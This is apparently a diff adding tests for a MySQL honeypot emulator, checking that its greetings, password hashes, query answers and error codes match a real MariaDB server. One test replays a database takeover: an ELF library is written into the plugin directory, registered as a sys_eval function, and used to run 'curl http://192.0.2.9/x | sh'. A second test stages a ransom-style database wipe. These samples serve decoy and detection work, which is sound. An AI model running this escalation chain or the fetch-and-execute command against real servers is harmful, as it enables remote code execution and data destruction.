@@ -1,0 +1,171 @@
+# SPDX-License-Identifier: MIT
+"""The parts of the MySQL decoy: packets beside recorded ones, responses to challenges, whatever a client may send."""
+
+from __future__ import annotations
+
+import hashlib
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from decnet_decoys.mysql import packets
+from decnet_decoys.mysql.authentication import CACHING_SHA2, NATIVE, for_crackers, found, response, unmasked
+from decnet_decoys.mysql.catalogue import Catalogue, Done, Failed, Found, Visitor
+from decnet_decoys.mysql.profile import MysqlProfile, Table
+from decnet_decoys.mysql.statements import answer
+
+SALT = b"|hr&c@Te~jx>j{LHfHt0"
+RECORDED = (
+    b"\n5.5.5-10.11.19-MariaDB-0+deb12u1\x00\x03\x00\x00\x00|hr&c@Te\x00\xfe\xf7-\x02\x00\xff\x81\x15\x00\x00\x00\x00\x00"
+    b"\x00\x1d\x00\x00\x00~jx>j{LHfHt0\x00mysql_native_password\x00"
+)
+"""The greeting of MariaDB 10.11.19 of Debian 12, and below its answers to two statements."""
+RECORDED_NUMBER = [b"\x01", b"\x03def\x00\x00\x00\x011\x00\x0c?\x00\x01\x00\x00\x00\x03\x81\x00\x00\x00\x00"]
+
+
+def visitor(**profile: object) -> Visitor:
+    tables = {"shop": {"orders": Table(columns=("id", "name"), rows=(("1", "a"), ("2", "b")))}}
+    made = MysqlProfile(databases=tables, **profile)  # type: ignore[arg-type]
+    return Visitor(Catalogue(made, "db-01"), "root", "192.0.2.7", 31)
+
+
+def test_the_greeting_is_that_of_the_real_server() -> None:
+    assert packets.greeting("mariadb", "10.11.19-MariaDB-0+deb12u1", NATIVE, 3, SALT, tls=False) == RECORDED
+
+
+def test_results_have_the_form_of_the_real_server() -> None:
+    made = list(packets.rows([("1", packets.NUMBER)], [["1"]], packets.PROTOCOL_41))
+    assert made[0] == RECORDED_NUMBER[0]
+    assert made[1][:8] == RECORDED_NUMBER[1][:8]
+    assert len(made[1]) == len(RECORDED_NUMBER[1])
+    assert made[2:] == [b"\xfe\x00\x00\x02\x00", b"\x011", b"\xfe\x00\x00\x02\x00"]
+    assert len(list(packets.rows([("1", packets.NUMBER)], [["1"]], packets.DEPRECATE_EOF))) == 4
+
+
+def test_a_response_of_the_native_method_is_what_crackers_compute() -> None:
+    given_response = response(NATIVE, b"geheim", SALT)
+    stored = hashlib.sha1(hashlib.sha1(b"geheim").digest()).digest()
+    once = bytes(a ^ b for a, b in zip(given_response, hashlib.sha1(SALT + stored).digest(), strict=True))
+    assert hashlib.sha1(once).digest() == stored  # as john's mysqlna and hashcat's 11200 check it
+    assert for_crackers(NATIVE, SALT, given_response) == f"$mysqlna${SALT.hex()}*{given_response.hex()}"
+
+
+@pytest.mark.parametrize("plugin", [NATIVE, CACHING_SHA2])
+def test_only_the_right_password_is_found(plugin: str) -> None:
+    given_response = response(plugin, b"geheim", SALT)
+    assert found(plugin, SALT, given_response, ("root", "geheim")) == "geheim"
+    assert found(plugin, SALT, given_response, ("root",)) is None
+    assert found(plugin, SALT, b"", ("root", "")) == ""
+
+
+@given(st.binary(max_size=60).filter(lambda word: b"\0" not in word))
+def test_an_encrypted_password_is_unmasked(password: bytes) -> None:
+    masked = bytes(one ^ (SALT + b"\0")[index % 21] for index, one in enumerate(password + b"\0"))
+    assert unmasked(masked, SALT) == password
+
+
+@given(st.binary(max_size=200))
+def test_any_hello_is_read_or_refused(packet: bytes) -> None:
+    made = packets.hello(packet)
+    assert made is None or len(made.username) + len(made.response) + len(made.database) <= len(packet)
+
+
+@given(st.binary(max_size=200), st.integers(1, 20))
+def test_how_packets_are_cut_changes_nothing(data: bytes, size: int) -> None:
+    def taken(pieces: list[bytes]) -> list[bytes]:
+        framing, found_packets = packets.Framing(100), []
+        try:
+            for piece in pieces:
+                framing.feed(piece)
+                while (packet := framing.take()) is not None:
+                    found_packets.append(packet)
+        except packets.TooLongError:
+            found_packets.append(b"too long")
+        return found_packets
+
+    assert taken([data]) == taken([data[place : place + size] for place in range(0, len(data), size)])
+
+
+@pytest.mark.parametrize(
+    ("sql", "expected"),
+    [
+        ("select 1", [["1"]]),
+        ("SELECT @@version_comment LIMIT 1", [["Debian 12"]]),
+        ("select user(), database()", [["root@192.0.2.7", None]]),
+        ("/* c */ select 'a,b', 0x4142;", [["a,b", "AB"]]),
+        ("select count(*) from shop.orders", [["2"]]),
+        ("select * from `shop`.`orders` where id = 1", [["1", "a"], ["2", "b"]]),
+        ("show tables from shop", [["orders"]]),
+        ("show variables like 'plugin%'", [["plugin_dir", "/usr/lib/mysql/plugin/"]]),
+    ],
+)
+def test_first_questions_are_answered(sql: str, expected: list[list[str | None]]) -> None:
+    outcome, known = answer(visitor(), sql)
+    assert isinstance(outcome, Found)
+    assert known
+    assert [list(row) for row in outcome.rows] == expected
+
+
+@pytest.mark.parametrize(
+    ("sql", "code"),
+    [
+        ("foo", 1064), ("use nix", 1049), ("show tables", 1046), ("select * from shop.nix", 1146), ("", 1065),
+        ("select nofunc(1)", 1305), ("select @@nix", 1193), ("drop database nix", 1008), ("select nix", 1054),
+        ("create function f returns int soname 'x.so'", 1126),
+    ],
+)  # fmt: skip
+def test_errors_are_those_of_the_real_server(sql: str, code: int) -> None:
+    outcome, _ = answer(visitor(), sql)
+    assert isinstance(outcome, Failed)
+    assert outcome.code == code
+
+
+def test_the_way_out_of_the_database_is_played_to_its_end() -> None:
+    one = visitor()
+    library = b"\x7fELF" + bytes(40_000)
+    outcome, known = answer(one, f"select 0x{library.hex()} into dumpfile '/usr/lib/mysql/plugin/u.so'")
+    assert (outcome, known) == (Done(1), True)
+    assert one.written == [("/usr/lib/mysql/plugin/u.so", library)]
+    assert answer(one, "create function sys_eval returns string soname 'u.so'") == (Done(), True)
+    outcome, _ = answer(one, "select sys_eval('curl http://192.0.2.9/x | sh')")
+    assert isinstance(outcome, Found)
+    assert one.commands == ["curl http://192.0.2.9/x | sh"]
+
+
+def test_what_is_dropped_is_gone_for_all_and_a_note_is_found() -> None:
+    one = visitor()
+    two = Visitor(one.catalogue, "root", "198.51.100.4", 32)
+    answer(one, "drop database shop")
+    answer(one, "create database `README_TO_RECOVER`")
+    answer(one, "create table README_TO_RECOVER.note (id int, text varchar(255))")
+    outcome, _ = answer(two, "show databases")
+    assert isinstance(outcome, Found)
+    names = [row[0] for row in outcome.rows]
+    assert "shop" not in names
+    assert "README_TO_RECOVER" in names
+
+
+@given(st.text(max_size=300) | st.from_regex(r"(?i)(select|show|create|drop|use) [a-z'\"@(), *=0x\s]{0,200}"))
+def test_every_statement_has_an_answer(sql: str) -> None:
+    outcome, _ = answer(visitor(), sql)
+    assert isinstance(outcome, Failed | Done | Found)
+
+
+@pytest.mark.parametrize(
+    "sql",
+    [
+        "select " + " " * 100_000 + "into", "select " + "a from " * 20_000, "create table x (" + ")" * 100_000 + "!",
+        "show variables like '" + "%a" * 50_000 + "'", "select " + "(" * 100_000, "select " + "'," * 50_000,
+        "select " + " into dumpfile '" * 6_000,
+    ],
+)  # fmt: skip
+def test_no_statement_takes_long(sql: str) -> None:
+    from time import thread_time
+
+    best = 1.0
+    for _ in range(3):
+        began = thread_time()
+        answer(visitor(), sql)
+        best = min(best, thread_time() - began)
+    assert best < 0.02
